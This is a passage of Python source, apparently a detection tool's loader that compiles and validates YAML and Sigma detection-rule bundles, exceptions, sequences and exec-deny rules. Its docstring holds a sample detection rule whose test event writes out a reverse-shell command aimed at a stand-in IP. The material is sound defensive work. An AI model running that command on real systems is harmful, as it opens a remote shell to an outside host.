"""Load a bundle (directory or archive) into the model's :class:`Bundle`.

Layout of a bundle directory::

    manifest.yaml        name, version, description, min_threatseer
    static.yaml          risky_processes, sensitive_files, iocs (sha256, networks, domains)
    rules/**/*.yaml      mappings with any of: lists, macros, rules, tests
    tests/**/*.yaml      same format (usually only tests, e.g. for Sigma rules)
    sigma/**/*.yml       Sigma rules (with their LICENSE)
    sigma/pipelines/*.yml  pySigma processing pipelines applied after the hub's own
                         (sigma_pipeline.py): field mappings or conditions for your fleet
    enforce.yaml         exec: execs the sensors' kernels kill before they run (optional)

Rule files may also hold one ``sigma:`` section tuning the Sigma rules to the fleet::

    sigma:
      exclude: managed_change or in_test_suite      # a condition no Sigma rule fires on
      overrides:                                    # by title or id
        "System Information Discovery": {enabled: false}
        "Some Rule": {score: 10, exceptions: [...]}

A rule::

    - rule: reverse_shell_dev_tcp
      description: ...
      condition: event.action = exec and process.command_line contains "/dev/tcp/"
      score: 80
      tags: [attack.execution, attack.t1059.004]
      output: "reverse shell by {process.name} ({process.command_line})"
      exceptions:                        # tuples of values that suppress a match
        - name: lab_hosts
          fields: [host.name, user.name]
          values: [[lab1, alice]]
        - name: backups                  # comps: =, !=, in, startswith, endswith, contains,
          fields: [process.name, file.path]  # glob, cidr, <, <=, >, >= and the i* forms
          comps: [in, startswith]
          values: [[[borg, restic], /srv/backup/]]
      enabled: true
      action: kill                       # optional: ask the sensor to kill the process
      tests:
        match: [{event.action: exec, process.command_line: "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"}]
        no_match: [...]

A condition may be a sequence (query/parser.py, rules/README.md); its tests are lists of
events, in order: ``match: [[{...}, {...}]]``. A sequence's ``action: kill`` targets the
process of the event that completes it.

A local layer (``layer: local`` in its manifest) is compiled on top of a base bundle by
:func:`load_stack`; what it may say is in hub/rules/local_layer.py.

``action: kill`` also goes on Sigma overrides, static risky_processes and sensitive_files
entries, and sha256 IOCs written as ``HASH: {description: ..., action: kill}``. The hub
carries it out only for rules its config's ``response.kill_rules`` names (hub/response.py).

enforce.yaml (of the base bundle)::

    exec:
      - rule: exec_from_dev_shm
        description: Programs run from /dev/shm
        prefixes: [/dev/shm/]
      - rule: fileless_exec
        description: A memfd or a deleted file executed
        memfd: true                      # the kinds of executable (default: any file)
        deleted: true
        prefixes: [/]                    # default: everywhere

Every problem is collected and reported together, each naming file:line and the rule.
"""

from __future__ import annotations

import ipaddress
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

from threatseer.common import __version__, ecs
from threatseer.hub.rules.archive import Files, content_digest, read_files
from threatseer.hub.rules.model import (
    ACTIONS,
    BASE,
    LOCAL,
    Bundle,
    ExecRule,
    Iocs,
    Layer,
    Manifest,
    RiskyProcess,
    RuleTest,
    SensitiveFile,
    StaticData,
)
from threatseer.hub.rules.query.ast import Cmp, Node, Not, Or, Sequence, conj
from threatseer.hub.rules.query.errors import QueryError
from threatseer.hub.rules.query.parser import WORD_OPS, parse, parse_field, parse_rule_condition
from threatseer.hub.rules.ruleset import CompiledRule, IndexedRuleSet
from threatseer.hub.rules.sequence import SequenceRule, SequenceStep
from threatseer.hub.rules.sigma import SigmaUnsupported, compile_sigma
from threatseer.hub.rules.sigma_pipeline import load_user_pipeline, pipeline_for
from threatseer.hub.rules.yamlfile import BundleError, LineDict, line_of, load_yaml

PIPELINES_DIR = "sigma/pipelines/"
RULE_KEYS = {"rule", "description", "condition", "score", "tags", "output", "exceptions",
             "enabled", "tests", "action"}
EXEC_RULE_KEYS = {"rule", "description", "prefixes", "memfd", "deleted", "enabled"}
# Exec rules may not deny every program of the system: a prefix covering these, for any
# file, is refused (memfd and deleted files may be denied everywhere).
_SYSTEM_DIRS = ("/usr/", "/bin/", "/sbin/", "/lib/", "/lib64/", "/etc/", "/opt/")
EXCEPTION_KEYS = {"name", "fields", "comps", "values"}
# An exception's comparison operators (Falco's ``comps``): the query language's, less those
# that make no sense for a value (exists) or could backtrack on event text (regex).
COMPS: dict[str, tuple[str, bool]] = {
    "=": ("=", False), "==": ("=", False), "<": ("<", False), "<=": ("<=", False),
    ">": (">", False), ">=": (">=", False),
    **{w: op for w, op in WORD_OPS.items() if op[0] not in ("exists", "regex")},
}
# Files of a local layer are read under this prefix (their paths in errors are the layer's).
LOCAL_PREFIX = "@local/"
_SHA256 = re.compile(r"[0-9a-f]{64}\Z")


# The default bundle: package data of an installed threatseer (setup.py copies rules/default
# there), or rules/default of a source checkout.
_DEFAULT_BUNDLE_DIRS = (Path(__file__).resolve().parent / "default_bundle",
                        Path(__file__).resolve().parents[2] / "rules" / "default")


def default_bundle_dir() -> Path | None:
    """Where the default rule bundle that ships with threatseer is, or None."""
    return next((p for p in _DEFAULT_BUNDLE_DIRS if (p / "manifest.yaml").is_file()), None)


def _version(text: str) -> tuple[int, ...]:
    return tuple(int(x) for x in re.findall(r"\d+", str(text))[:3])


def complete_event(event: dict[str, Any]) -> dict[str, Any]:
    """Fill event.category/type from event.action, as the sensor does (for test events)."""
    out = dict(event)
    cats = ecs.CATEGORIES.get(str(out.get("event.action")))
    if cats:
        out.setdefault("event.category", list(cats[0]))
        out.setdefault("event.type", list(cats[1]))
    return out


def _section(doc: dict[str, Any], key: str, kind: type) -> Any:
    """``doc[key]`` if it has the expected YAML type (empty when absent), else None."""
    value = doc.get(key)
    if value is None:
        return kind()
    return value if isinstance(value, kind) else None


class _Loader:
    def section(self, rel: str, doc: dict[str, Any], key: str, kind: type,
                rule: str | None = None) -> Any:
        value = _section(doc, key, kind)
        if value is None:
            what = "a mapping" if kind is dict else "a list"
            self.error(rel, line_of(doc), f"{key} must be {what}", rule)
            return kind()
        return value

    def action(self, rel: str, doc: Any, rule: str | None = None) -> str:
        """A mapping's ``action`` ("" when absent), checked."""
        value = doc.get("action", "") if isinstance(doc, dict) else ""
        if value in ("", None):
            return ""
        if value not in ACTIONS:
            self.error(rel, line_of(doc), f"action must be one of {', '.join(ACTIONS)}, not "
                       f"{value!r}", rule)
            return ""
        return str(value)

    def __init__(self, files: Files, source: str, local_files: Files | None = None,
                 local_source: str = "") -> None:
        self.files = files
        self.source = source.rstrip("/")
        self.local_source = local_source.rstrip("/")
        self.stacked = local_files is not None
        if local_files is not None:
            self.files = {**files, **{LOCAL_PREFIX + rel: data
                                      for rel, data in local_files.items()}}
        self.errors: list[str] = []
        self.unsupported: list[str] = []
        self.lists: dict[str, tuple[Any, ...]] = {}
        self.macro_text: dict[str, tuple[str, str]] = {}  # name -> (text, where)
        self.macros: dict[str, Node] = {}
        self._expanding: list[str] = []
        self.rule_docs: list[tuple[str, LineDict]] = []  # (file, doc)
        self.test_docs: list[tuple[str, Any, str | None]] = []  # (file, doc, owning rule)
        self.sigma_doc: tuple[str, LineDict] | None = None
        # The local layer's documents, merged in by local_layer.apply() (rel, line, ...).
        self.local_lists: list[tuple[str, int, str, Any]] = []
        self.local_macros: list[tuple[str, int, str, Any]] = []
        self.local_rule_docs: list[tuple[str, LineDict]] = []
        self.local_sigma_doc: tuple[str, LineDict] | None = None
        # Sigma tuning (from the base's and the local layer's sigma: sections and the local
        # layer's overrides of Sigma rules by name): name or id -> [(rel, override doc)].
        self.sigma_tunes: dict[str, list[tuple[str, LineDict]]] = {}
        self.sigma_excludes: list[tuple[str, int, str]] = []  # (rel, line, condition text)
        self.ioc_actions: dict[str, str] = {}  # sha256:HASH -> action
        self.sequences: dict[str, SequenceRule] = {}

    def where(self, rel: str, line: int = 0) -> str:
        if rel.startswith(LOCAL_PREFIX):
            path = f"{self.local_source}/{rel[len(LOCAL_PREFIX):]}"
        else:
            path = f"{self.source}/{rel}"
        return f"{path}:{line}" if line else path

    def error(self, rel: str, line: int, message: str, rule: str | None = None) -> None:
        prefix = f"rule {rule!r}: " if rule else ""
        self.errors.append(f"{self.where(rel, line)}: {prefix}{message}")

    def yaml(self, rel: str) -> Any:
        try:
            return load_yaml(self.files[rel], self.where(rel))
        except BundleError as exc:
            self.errors.extend(exc.errors)
            return None

    # ---- manifest and static data ---------------------------------------------------

    def manifest(self, prefix: str = "") -> Manifest:
        rel = prefix + "manifest.yaml"
        if rel not in self.files:
            self.error(rel, 0, "missing (a bundle needs a manifest)")
            return Manifest("invalid", "0")
        doc = self.yaml(rel)
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping with name and version")
            return Manifest("invalid", "0")
        unknown = set(doc) - {"name", "version", "description", "min_threatseer", "layer",
                              "base"}
        for key in sorted(unknown):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        for key in ("name", "version"):
            if not isinstance(doc.get(key), str | int | float) or not str(doc[key]).strip():
                self.error(rel, line_of(doc), f"{key} is required")
        layer = str(doc.get("layer", BASE))
        if layer not in (BASE, LOCAL):
            self.error(rel, line_of(doc), f"layer must be {BASE} or {LOCAL}, not {layer!r}")
        m = Manifest(str(doc.get("name", "invalid")), str(doc.get("version", "0")),
                     str(doc.get("description", "")), str(doc.get("min_threatseer", "0.1.0")),
                     layer, str(doc.get("base") or ""))
        if _version(m.min_threatseer) > _version(__version__):
            self.error(rel, line_of(doc), f"needs threatseer >= {m.min_threatseer} "
                       f"(this is {__version__})")
        return m

    def static(self, prefix: str = "") -> StaticData:
        rel = prefix + "static.yaml"
        if rel not in self.files:
            return StaticData()
        doc = self.yaml(rel) or {}
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping")
            return StaticData()
        for key in sorted(set(doc) - {"risky_processes", "sensitive_files", "iocs"}):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        risky: dict[str, RiskyProcess] = {}
        for item in self.section(rel, doc, "risky_processes", list):
            try:
                rp = RiskyProcess(str(item["name"]), str(item.get("reason", "")),
                                  int(item["score"]), tuple(map(str, item.get("tags") or ())),
                                  self.action(rel, item))
                risky[rp.name] = rp
            except (KeyError, TypeError, ValueError, AttributeError) as exc:
                self.error(rel, line_of(item), f"risky_processes: bad entry ({exc})")
        files: list[SensitiveFile] = []
        for item in self.section(rel, doc, "sensitive_files", list):
            try:
                files.append(SensitiveFile(
                    str(item["glob"]), str(item.get("reason", "")), int(item["read_score"]),
                    int(item["write_score"]), tuple(map(str, item.get("tags") or ())),
                    self.action(rel, item)))
            except (KeyError, TypeError, ValueError, AttributeError) as exc:
                self.error(rel, line_of(item), f"sensitive_files: bad entry ({exc})")
        iocs_doc = self.section(rel, doc, "iocs", dict)
        sha: dict[str, str] = {}
        for k, v in self.section(rel, iocs_doc, "sha256", dict).items():
            h = str(k).lower()
            if isinstance(v, dict):  # {description: ..., action: kill}
                for key in sorted(set(v) - {"description", "action"}):
                    self.error(rel, line_of(v, line_of(iocs_doc)), f"iocs.sha256: unknown key "
                               f"{key!r}")
                sha[h] = str(v.get("description", ""))
                action = self.action(rel, v)
                if action:
                    self.ioc_actions[f"sha256:{h}"] = action
            else:
                sha[h] = str(v)
        for h in sha:
            if not _SHA256.match(h):
                self.error(rel, line_of(iocs_doc), f"iocs.sha256: not a sha256: {h!r}")
        nets = {str(k): str(v) for k, v in self.section(rel, iocs_doc, "networks", dict).items()}
        for n in nets:
            try:
                ipaddress.ip_network(n, strict=False)
            except ValueError:
                self.error(rel, line_of(iocs_doc), f"iocs.networks: not an IP or CIDR: {n!r}")
        domains = {str(k).lower().rstrip("."): str(v)
                   for k, v in self.section(rel, iocs_doc, "domains", dict).items()}
        return StaticData(risky, tuple(files), Iocs(sha, nets, domains))

    # ---- lists, macros, rules, tests -----------------------------------------------

    def collect(self, prefix: str = "") -> None:
        """Read the rule files of the base (``prefix`` "") or of the local layer
        (:data:`LOCAL_PREFIX`, kept apart for local_layer.apply())."""
        local = prefix == LOCAL_PREFIX
        for rel in sorted(self.files):
            if not rel.endswith((".yaml", ".yml")) or not rel.startswith(
                    (prefix + "rules/", prefix + "tests/")):
                continue
            if local:
                self.collect_local(rel)
                continue
            doc = self.yaml(rel)
            if doc is None:
                continue
            if isinstance(doc, list):  # a bare list of rules
                doc = LineDict(rules=doc)
            if not isinstance(doc, dict):
                self.error(rel, 1, "must be a mapping with lists, macros, rules or tests")
                continue
            sigma = doc.get("sigma")
            if sigma is not None:
                if self.sigma_doc is not None or not isinstance(sigma, dict):
                    self.error(rel, line_of(doc), "one sigma: mapping per bundle")
                else:
                    self.sigma_doc = (rel, sigma)
            # A stack runs the local layer's tests; the base's ran when it was installed.
            keep_tests = not self.stacked
            for key in sorted(set(doc) - {"lists", "macros", "rules", "tests", "sigma"}):
                self.error(rel, line_of(doc), f"unknown key {key!r}")
            for name, items in self.section(rel, doc, "lists", dict).items():
                if name in self.lists:
                    self.error(rel, line_of(doc.get("lists")), f"list {name!r} defined twice")
                elif not isinstance(items, list):
                    self.error(rel, line_of(doc.get("lists")), f"list {name!r} is not a list")
                else:
                    self.lists[name] = tuple(items)
            for name, text in self.section(rel, doc, "macros", dict).items():
                if name in self.macro_text:
                    self.error(rel, line_of(doc.get("macros")), f"macro {name!r} defined twice")
                self.macro_text[name] = (str(text), self.where(rel, line_of(doc.get("macros"))))
            for rule in self.section(rel, doc, "rules", list):
                if not isinstance(rule, dict):
                    self.error(rel, line_of(doc), "each rule must be a mapping")
                    continue
                self.rule_docs.append((rel, rule))
                if rule.get("tests") is not None and keep_tests:
                    self.test_docs.append((rel, rule.get("tests"), str(rule.get("rule"))))
            tests = doc.get("tests")
            if tests is not None and keep_tests:
                if not isinstance(tests, list):
                    self.error(rel, line_of(doc), "tests must be a list")
                else:
                    for t in tests:
                        self.test_docs.append((rel, t, None))

    def collect_local(self, rel: str) -> None:
        """One rule file of the local layer: its entries are kept as written, to be merged
        over the base's by local_layer.apply()."""
        doc = self.yaml(rel)
        if doc is None:
            return
        if isinstance(doc, list):
            doc = LineDict(rules=doc)
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping with lists, macros, rules, tests or sigma")
            return
        for key in sorted(set(doc) - {"lists", "macros", "rules", "tests", "sigma"}):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        sigma = doc.get("sigma")
        if sigma is not None:
            if self.local_sigma_doc is not None or not isinstance(sigma, dict):
                self.error(rel, line_of(doc), "one sigma: mapping per local layer")
            else:
                self.local_sigma_doc = (rel, sigma)
        lists = self.section(rel, doc, "lists", dict)
        for name, value in lists.items():
            self.local_lists.append((rel, line_of(value, line_of(lists)), str(name), value))
        macros = self.section(rel, doc, "macros", dict)
        for name, value in macros.items():
            self.local_macros.append((rel, line_of(value, line_of(macros)), str(name), value))
        for rule in self.section(rel, doc, "rules", list):
            if not isinstance(rule, dict):
                self.error(rel, line_of(doc), "each rule must be a mapping")
                continue
            self.local_rule_docs.append((rel, rule))
            if rule.get("tests") is not None:
                self.test_docs.append((rel, rule.get("tests"), str(rule.get("rule"))))
        tests = doc.get("tests")
        if tests is not None:
            if not isinstance(tests, list):
                self.error(rel, line_of(doc), "tests must be a list")
            else:
                self.test_docs.extend((rel, t, None) for t in tests)

    def macro(self, name: str) -> Node | None:
        if name in self.macros:
            return self.macros[name]
        if name not in self.macro_text:
            return None
        if name in self._expanding:
            raise QueryError(f"macro cycle: {' -> '.join([*self._expanding, name])}")
        text, where = self.macro_text[name]
        self._expanding.append(name)
        try:
            node = parse(text, self.macro, self.lists)
        except QueryError as exc:
            if exc.message.startswith("in macro"):
                raise
            raise QueryError(f"in macro {name!r} ({where}): {exc}") from None
        finally:
            self._expanding.pop()
        self.macros[name] = node
        return node

    def exceptions(self, rel: str, rule: LineDict, name: str) -> Node | None:
        """``not (tuple1 or tuple2 ...)`` for the rule's exceptions.

        Falco's form: ``fields`` and ``comps`` (default ``=`` each) pair up with each tuple
        of ``values``; ``in`` takes a list (or a list's name) as its value. With one field
        given as a plain string, ``comps`` is one operator too and each value is a tuple of
        one (``in``: all values together).
        """
        suppress: list[Node] = []
        for exc in self.section(rel, rule, "exceptions", list, name):
            line = line_of(exc, line_of(rule))
            if not isinstance(exc, dict) or not isinstance(exc.get("fields"), list | str):
                self.error(rel, line, "exception needs fields: [..] and values: [[..]]", name)
                continue
            label = f"exception {exc.get('name', '')!r}"
            for key in sorted(set(exc) - EXCEPTION_KEYS):
                self.error(rel, line, f"{label}: unknown key {key!r}", name)
            single = isinstance(exc["fields"], str)
            names = [exc["fields"]] if single else exc["fields"]
            comps = exc.get("comps", "=" if single else ["="] * len(names))
            if single and isinstance(comps, str):
                comps = [comps]
            if not isinstance(comps, list) or len(comps) != len(names) or not all(
                    isinstance(c, str) for c in comps):
                self.error(rel, line, f"{label}: comps must give one operator per field",
                           name)
                continue
            bad = [c for c in comps if c.lower() not in COMPS and c != "!="]
            if bad:
                self.error(rel, line, f"{label}: unknown comparison {bad[0]!r} (known: "
                           f"{', '.join(sorted([*COMPS, '!=']))})", name)
                continue
            try:
                fields = [parse_field(str(f)) for f in names]
            except QueryError as err:
                self.error(rel, line, f"{label}: {err}", name)
                continue
            rows = self.section(rel, exc, "values", list, name)
            if single:  # each value is one tuple; `in` takes them all at once
                rows = [[rows]] if comps[0].lower() == "in" else [[v] for v in rows]
            for values in rows:
                values = values if isinstance(values, list) else [values]
                if len(values) != len(fields):
                    self.error(rel, line, f"{label}: {values!r} has {len(values)} values for "
                               f"{len(fields)} fields", name)
                    continue
                tests = [self.comparison(rel, line, label, name, f, c, v)
                         for f, c, v in zip(fields, comps, values, strict=True)]
                if all(t is not None for t in tests):
                    suppress.append(conj(*tests))  # type: ignore[arg-type]
        if not suppress:
            return None
        return Not(suppress[0] if len(suppress) == 1 else Or(tuple(suppress)))

    def comparison(self, rel: str, line: int, label: str, rule: str, field: Any, comp: str,
                   value: Any) -> Node | None:
        """One ``field comp value`` of an exception tuple, or None (error recorded)."""
        if comp == "!=":
            return Not(Cmp(field, "=", (value,)))
        op, nocase = COMPS[comp.lower()]
        if comp.lower() == "in":
            if isinstance(value, str) and value in self.lists:
                value = list(self.lists[value])
            if not isinstance(value, list) or not value:
                self.error(rel, line, f"{label}: 'in' takes a list of values or a list's "
                           f"name, not {value!r}", rule)
                return None
            return Cmp(field, op, tuple(value), nocase)
        if isinstance(value, list | dict) or value is None:
            self.error(rel, line, f"{label}: {comp!r} compares with one value, not "
                       f"{value!r}", rule)
            return None
        if op == "cidr":
            try:
                ipaddress.ip_network(str(value), strict=False)
            except ValueError:
                self.error(rel, line, f"{label}: not an IP network: {value!r}", rule)
                return None
        return Cmp(field, op, (value,), nocase)

    def rule(self, rel: str, doc: LineDict) -> list[CompiledRule]:
        """The compiled rule (a sequence: its steps), none when disabled or bad."""
        line = line_of(doc)
        name = doc.get("rule")
        if not isinstance(name, str) or not name:
            self.error(rel, line, "rule: a name is required")
            return []
        for key in sorted(set(doc) - RULE_KEYS):
            self.error(rel, line, f"unknown key {key!r}", name)
        if not doc.get("enabled", True):
            return []
        try:
            score = int(doc.get("score", 0))
        except (TypeError, ValueError):
            self.error(rel, line, f"score must be an integer, not {doc.get('score')!r}", name)
            return []
        try:
            condition = parse_rule_condition(str(doc.get("condition") or ""), self.macro,
                                             self.lists)
            exc = self.exceptions(rel, doc, name)
            description = str(doc.get("description", "")).strip()
            tags = tuple(map(str, self.section(rel, doc, "tags", list, name)))
            output = str(doc.get("output", ""))
            if isinstance(condition, Sequence):
                return self.sequence_rule(name, condition, exc, description, score, tags,
                                          output, self.where(rel, line),
                                          self.action(rel, doc, name))
            if exc is not None:
                condition = conj(condition, exc)
            return [CompiledRule(
                name=name, engine="dynamic", type="query", description=description,
                score=score, tags=tags, condition=condition, output=output,
                source=self.where(rel, line), meta={"id": name},
                action=self.action(rel, doc, name))]
        except QueryError as exc:
            self.error(rel, line, f"condition: {exc}", name)
            return []

    def sequence_rule(self, name: str, seq: Sequence, exc: Node | None, description: str,
                      score: int, tags: tuple[str, ...], output: str,
                      source: str, action: str) -> list[CompiledRule]:
        """A sequence's steps as rules of the index; exceptions hold on every step. Its
        ``action`` applies to the process of the event that completes it (that event carries
        the sequence's indicator)."""
        rule = SequenceRule(name, seq, description, score, tags, output, source, action)
        self.sequences[name] = rule
        return [SequenceStep(
            name=f"{name}[{i + 1}]", engine="dynamic", type="sequence-step",
            description=description, score=0, tags=tags,
            condition=step.condition if exc is None else conj(step.condition, exc),
            source=source, meta={"id": name}, sequence=rule, index=i)
            for i, step in enumerate(seq.steps)]

    def sigma_rules(self) -> list[CompiledRule]:
        """Every Sigma rule of the bundle (and of its local layer), untuned."""
        out = []
        user_pipelines = []
        for rel in sorted(self.files):
            if rel.startswith((PIPELINES_DIR, LOCAL_PREFIX + PIPELINES_DIR)) and \
                    rel.endswith((".yml", ".yaml")):
                try:
                    user_pipelines.append(load_user_pipeline(
                        self.files[rel].decode("utf-8", "replace"), rel))
                except ValueError as exc:
                    self.error(rel, 1, str(exc).split(": ", 1)[1])
        pipeline = pipeline_for(user_pipelines)
        # A rule loaded twice (a copy under another path, or a local layer re-adding a base
        # rule) would add its score twice and alert on half the evidence: one per Sigma id.
        seen: dict[str, str] = {}
        for rel in sorted(self.files):
            if (not rel.startswith(("sigma/", LOCAL_PREFIX + "sigma/"))
                    or rel.startswith((PIPELINES_DIR, LOCAL_PREFIX + PIPELINES_DIR))
                    or not rel.endswith((".yml", ".yaml"))):
                continue
            try:
                rule = compile_sigma(self.files[rel].decode("utf-8", "replace"),
                                     self.where(rel), pipeline)
            except SigmaUnsupported as exc:
                self.unsupported.append(f"{self.where(rel)}: {exc}")
                continue
            key = rule.extra.get("sigma_id") or rule.name
            if key in seen:
                self.error(rel, 1, f"Sigma rule {key} defined twice (first at {seen[key]}); "
                           "to change a base rule, override it in the local layer")
                continue
            seen[key] = self.where(rel)
            out.append(rule)
        return out

    def sigma(self, rules: list[CompiledRule] | None = None
              ) -> tuple[list[CompiledRule], set[str]]:
        """(compiled and tuned Sigma rules, names of those disabled by overrides)."""
        if rules is None:
            rules = self.sigma_rules()
        return self.tune_sigma(rules)

    def sigma_tuning(self) -> tuple[list[tuple[str, int, str]], dict[str, list[Any]]]:
        """Exclude conditions and overrides by rule name, the base's then the local layer's."""
        excludes: list[tuple[str, int, str]] = []
        tunes: dict[str, list[tuple[str, LineDict]]] = {}
        if self.sigma_doc is not None:
            rel, doc = self.sigma_doc
            for key in sorted(set(doc) - {"exclude", "overrides"}):
                self.error(rel, line_of(doc), f"sigma: unknown key {key!r}")
            if doc.get("exclude"):
                excludes.append((rel, line_of(doc), str(doc["exclude"])))
            overrides = self.section(rel, doc, "overrides", dict)
            for name, o in overrides.items():
                if not isinstance(o, dict):
                    self.error(rel, line_of(overrides), "sigma.overrides: each must be a "
                               "mapping", str(name))
                    continue
                if not isinstance(o, LineDict):
                    o = LineDict(o)
                    o.line = line_of(overrides)
                tunes.setdefault(str(name), []).append((rel, o))
        excludes.extend(self.sigma_excludes)
        for name, items in self.sigma_tunes.items():
            tunes.setdefault(name, []).extend(items)
        return excludes, tunes

    def tune_sigma(self, rules: list[CompiledRule]) -> tuple[list[CompiledRule], set[str]]:
        excludes, tunes = self.sigma_tuning()
        parts: list[Node] = []
        for rel, line, text in excludes:
            try:
                parts.append(parse(text, self.macro, self.lists))
            except QueryError as exc:
                self.error(rel, line, f"sigma.exclude: {exc}")
        exclude = Not(parts[0] if len(parts) == 1 else Or(tuple(parts))) if parts else None
        by_key = {k: r for r in rules for k in (r.name, r.extra.get("sigma_id")) if k}
        for name, items in tunes.items():
            if name not in by_key:
                rel, o = items[0]
                self.error(rel, line_of(o), f"sigma.overrides: no Sigma rule {name!r}")
        out: list[CompiledRule] = []
        disabled: set[str] = set()
        for r in rules:
            items = [*tunes.get(r.name, ()), *tunes.get(r.extra.get("sigma_id") or "", ())]
            enabled, score, suppress, action = True, r.score, [], r.action
            for rel, o in items:
                if "enabled" in o:
                    enabled = bool(o["enabled"])
                if "action" in o:
                    action = self.action(rel, o, r.name)
                if "score" in o:
                    try:
                        score = int(o["score"])
                    except (TypeError, ValueError):
                        self.error(rel, line_of(o), "score must be an integer", r.name)
                if getattr(o, "replace_exceptions", False):
                    suppress = []
                try:
                    exc = self.exceptions(rel, o, r.name) if o.get("exceptions") else None
                except QueryError as err:
                    self.error(rel, line_of(o), f"exceptions: {err}", r.name)
                    exc = None
                if exc is not None:
                    suppress.append(exc)
            if not enabled:
                disabled.update((r.name, r.extra.get("sigma_id", "")))
                continue
            condition = r.condition if exclude is None else conj(r.condition, exclude)
            if suppress:
                condition = conj(condition, *suppress)
            out.append(replace(r, condition=condition, score=score, action=action))
        return out, disabled

    def exec_rules(self) -> list[ExecRule]:
        rel = "enforce.yaml"
        if rel not in self.files:
            return []
        doc = self.yaml(rel) or {}
        if not isinstance(doc, dict):
            self.error(rel, 1, "must be a mapping with exec: [rules]")
            return []
        for key in sorted(set(doc) - {"exec"}):
            self.error(rel, line_of(doc), f"unknown key {key!r}")
        out = []
        for item in self.section(rel, doc, "exec", list):
            line = line_of(item, line_of(doc))
            name = item.get("rule") if isinstance(item, dict) else None
            if not isinstance(name, str) or not name:
                self.error(rel, line, "exec: each rule needs rule: NAME")
                continue
            for key in sorted(set(item) - EXEC_RULE_KEYS):
                self.error(rel, line, f"unknown key {key!r}", name)
            if not item.get("enabled", True):
                continue
            kinds = tuple(k for k in ("memfd", "deleted") if item.get(k)) or ("any",)
            for key in ("memfd", "deleted"):
                if not isinstance(item.get(key, False), bool):
                    self.error(rel, line, f"{key} must be true or false", name)
            prefixes = item.get("prefixes", ["/"] if kinds != ("any",) else None)
            if not isinstance(prefixes, list) or not prefixes or len(prefixes) > 64:
                self.error(rel, line, "prefixes: a list of 1 to 64 absolute path prefixes "
                           "(required unless memfd or deleted)", name)
                continue
            good = True
            for prefix in prefixes:
                if (not isinstance(prefix, str) or not prefix.startswith("/")
                        or len(prefix.encode()) > 256 or "*" in prefix):
                    self.error(rel, line, f"prefixes: {prefix!r} is not an absolute path of at "
                               "most 256 bytes without '*'", name)
                    good = False
                elif "any" in kinds and any(d.startswith(prefix) or prefix == d.rstrip("/")
                                            for d in _SYSTEM_DIRS):
                    self.error(rel, line, f"prefixes: {prefix!r} would deny the system's own "
                               "programs (allowed for memfd or deleted only)", name)
                    good = False
            if good:
                out.append(ExecRule(name, str(item.get("description", "")).strip(),
                                    tuple(prefixes), kinds, self.where(rel, line)))
        return out

    def tests(self, known: dict[str, CompiledRule], disabled: set[str]) -> list[RuleTest]:
        out: list[RuleTest] = []
        for rel, doc, owner in self.test_docs:
            if not isinstance(doc, dict):
                self.error(rel, 0, "a test must be a mapping with match/no_match", owner)
                continue
            name = owner or doc.get("rule")
            if not isinstance(name, str):
                self.error(rel, line_of(doc), "test: which rule? (rule: NAME)")
                continue
            if name in disabled:
                continue
            if name not in known:
                self.error(rel, line_of(doc), f"test for unknown rule {name!r}")
                continue
            for key in sorted(set(doc) - {"rule", "match", "no_match"}):
                self.error(rel, line_of(doc), f"test: unknown key {key!r}", name)
            sequence = name in self.sequences
            for expect, key in ((True, "match"), (False, "no_match")):
                for event in doc.get(key) or []:
                    if sequence:
                        if not isinstance(event, list) or not event or not all(
                                isinstance(e, dict) for e in event):
                            self.error(rel, line_of(doc), f"{key}: a sequence's test is a "
                                       "list of events (mappings), in order", name)
                            continue
                        events = tuple(complete_event(dict(e)) for e in event)
                        out.append(RuleTest(name, events[-1], expect,
                                            self.where(rel, line_of(event[0])), events))
                        continue
                    if not isinstance(event, dict):
                        self.error(rel, line_of(doc), f"{key}: events are mappings", name)
                        continue
                    out.append(RuleTest(known[name].name, complete_event(dict(event)), expect,
                                        self.where(rel, line_of(event))))
        return out


def load_files(files: Files, source: str) -> Bundle:
    """Compile a bundle from its files; raise BundleError listing every problem."""
    loader = _Loader(files, source)
    manifest = loader.manifest()
    if manifest.layer == LOCAL:  # nothing else can be checked without its base
        loader.error("manifest.yaml", 0, "is a local layer: it compiles only on a base bundle "
                     "(rules validate/test --base, or publish it to a hub)")
        raise BundleError(loader.errors)
    static = loader.static()
    loader.collect()
    return _compile(loader, manifest, static, files, None)


def load_stack(base_files: Files, base_source: str, local_files: Files,
               local_source: str) -> Bundle:
    """Compile a base bundle with a local layer over it (hub/rules/local_layer.py); raise
    BundleError listing every problem, each naming the file (of either) and line."""
    from threatseer.hub.rules import local_layer

    loader = _Loader(base_files, base_source, local_files, local_source)
    manifest = loader.manifest()
    local = loader.manifest(LOCAL_PREFIX)
    if manifest.layer != BASE:
        loader.error("manifest.yaml", 0, "a local layer cannot be the base of a stack")
    if local.layer != LOCAL:
        loader.error(LOCAL_PREFIX + "manifest.yaml", 0, "is not a local layer (its manifest "
                     "needs layer: local)")
    elif local.base and local.base != manifest.name:
        loader.error(LOCAL_PREFIX + "manifest.yaml", 0, f"is a local layer for base "
                     f"{local.base!r}, not {manifest.name!r}")
    if loader.errors:  # the wrong kind of bundle on either side: its contents say nothing more
        raise BundleError(loader.errors)
    static = local_layer.merge_static(loader.static(), loader.static(LOCAL_PREFIX))
    loader.collect()
    loader.collect(LOCAL_PREFIX)
    layer = Layer(local, content_digest(local_files), local_source)
    return _compile(loader, manifest, static, base_files, layer)


def _compile(loader: _Loader, manifest: Manifest, static: StaticData, files: Files,
             layer: Layer | None) -> Bundle:
    sigma_rules = loader.sigma_rules()
    if layer is not None:
        from threatseer.hub.rules import local_layer

        local_layer.apply(loader, {k for r in sigma_rules
                                   for k in (r.name, r.extra.get("sigma_id")) if k})
    rules: list[CompiledRule] = []
    disabled: set[str] = set()
    seen: dict[str, str] = {}
    for rel, doc in loader.rule_docs:
        name = doc.get("rule")
        if isinstance(name, str) and name in seen:
            loader.error(rel, line_of(doc), f"defined twice (first at {seen[name]})", name)
            continue
        if isinstance(name, str):
            seen[name] = loader.where(rel, line_of(doc))
            if not doc.get("enabled", True):
                disabled.add(name)
        rules.extend(loader.rule(rel, doc))
    for name, (_, where) in sorted(loader.macro_text.items()):
        try:
            loader.macro(name)
